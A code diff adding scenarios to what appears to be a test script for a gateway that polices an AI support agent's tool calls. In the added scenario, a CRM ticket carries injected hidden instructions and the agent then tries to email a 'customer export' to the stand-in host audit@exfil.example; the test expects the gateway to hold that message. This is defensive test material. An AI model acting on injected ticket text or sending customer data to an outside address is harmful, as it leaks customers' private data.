@@ -494,6 +494,50 @@ pub async fn run(dir: Option<PathBuf>) -> Result<u8, Exit> {
         &a,
     );
 
+    d.heading("inspection: a ticket carries hidden instructions, a message carries a card number");
+    let a = d
+        .act(
+            "support-bot",
+            "crm.get_ticket",
+            json!({"ticket_id": "T1182"}),
+            "sup-4",
+        )
+        .await;
+    d.check(
+        a.status == 200
+            && a.body["labels"]
+                .as_array()
+                .is_some_and(|l| l.contains(&json!("untrusted"))),
+        "the CRM tool is not marked untrusted, but the scanner found an injection and labelled the session",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.send",
+            json!({"to": "audit@exfil.example", "subject": "export", "body": "customer export attached"}),
+            "sup-4",
+        )
+        .await;
+    d.check(
+        a.status == 202,
+        "so the outbound message from that session is held",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.send",
+            json!({"to": "ada@groupany.example", "subject": "card", "body": "the card is 4111 1111 1111 1111"}),
+            "sup-5",
+        )
+        .await;
+    d.check(
+        a.status == 403 && a.body["policies"] == json!(["no-card-numbers-in-messages"]),
+        "a card number in a message is refused by policy (context.findings)",
+        &a,
+    );
+
     d.heading("security halts support-bot while one of its refunds waits for approval");
     let a = d
         .act(
@@ -514,8 +558,11 @@ pub async fn run(dir: Option<PathBuf>) -> Result<u8, Exit> {
         )
         .await;
     d.check(
-        a.status == 200 && a.body["cancelled_approvals"] == json!([held]),
-        "halted; its pending approval is cancelled",
+        a.status == 200
+            && a.body["cancelled_approvals"]
+                .as_array()
+                .is_some_and(|c| c.contains(&held)),
+        "halted; its pending approvals are cancelled",
         &a,
     );
     let a = d
